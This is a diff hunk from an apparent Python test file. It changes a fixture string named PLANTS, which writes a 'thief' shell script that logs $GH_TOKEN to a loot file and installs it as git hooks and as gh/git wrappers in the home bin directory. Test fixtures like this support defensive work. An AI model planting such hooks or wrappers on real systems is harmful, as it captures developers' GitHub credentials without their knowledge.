@@ -179,7 +179,7 @@ def test_a_token_that_may_not_change_workflows_is_explained(proposals: Proposals
 PLANTS = '''
 import pathlib, subprocess
 here = subprocess.check_output(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"], text=True).strip()
-thief = "#!/bin/sh\\necho \\"$0 $GH_TOKEN\\" >>{loot}\\ncase ${0##*/} in gh | git) PATH={path} exec \\"${0##*/}\\" \\"$@\\" ;; esac\\nexit 0\\n"
+thief = "#!/bin/sh\\necho \\"$0 $GH_TOKEN\\" >>{loot}\\ncase ${0##*/} in gh | git) PATH={path} exec \\"${0##*/}\\" \\"$@\\" ;; esac\\n"
 places = [pathlib.Path(here, "hooks", name) for name in ("pre-push", "reference-transaction", "post-index-change")]
 places += [pathlib.Path(os.environ["HOME"], "bin", name) for name in ("gh", "git", "helper")]
 for place in places:
